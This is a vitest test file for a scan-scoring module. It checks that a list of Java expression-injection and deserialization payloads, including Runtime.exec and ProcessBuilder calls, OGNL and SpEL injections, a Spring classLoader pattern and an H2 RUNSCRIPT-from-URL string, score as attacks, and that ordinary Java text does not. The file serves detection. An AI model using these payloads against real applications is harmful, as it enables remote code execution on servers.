// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks and texts are written like that
import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

const attacks: readonly string[] = [
  '${x.class.forName("java.lang.Runtime")}',
  '["sh","-c","id"].execute()',
  'Runtime.getRuntime().exec("id")',
  'com.caucho.naming.QName',
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  'new java.lang.ProcessBuilder("id").start()',
  "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
  '%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"id"})).start()}',
  "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
  'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
  "''.getClass().forName('java.lang.Runtime')",
  'javax.script.ScriptEngineManager',
  '"cat /x".execute().text',
  'org.apache.commons.collections.functors.InvokerTransformer',
  'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM http://x',
]

const harmless: readonly string[] = [
  'Class.forName("com.mysql.cj.jdbc.Driver")',
  "org.springframework.beans.factory.BeanCreationException: Error creating bean with name 'x'",
  'java.lang.String',
  'java.lang.NullPointerException at com.foo.Bar.baz(Bar.java:12)',
  'java.util.List',
  'I love Java and JavaScript',
  'The process is running; the runtime is fast',
  'runtime error at startup',
  '<groupId>org.apache.maven</groupId>',
  'session.request.context',
  '#context menu',
]

describe('Java code and expressions', () => {
  it.each(attacks)('are denied: %s', (value) => {
    expect(familyTotalOf('java', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(harmless)('do not look like: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(40)
  })
})
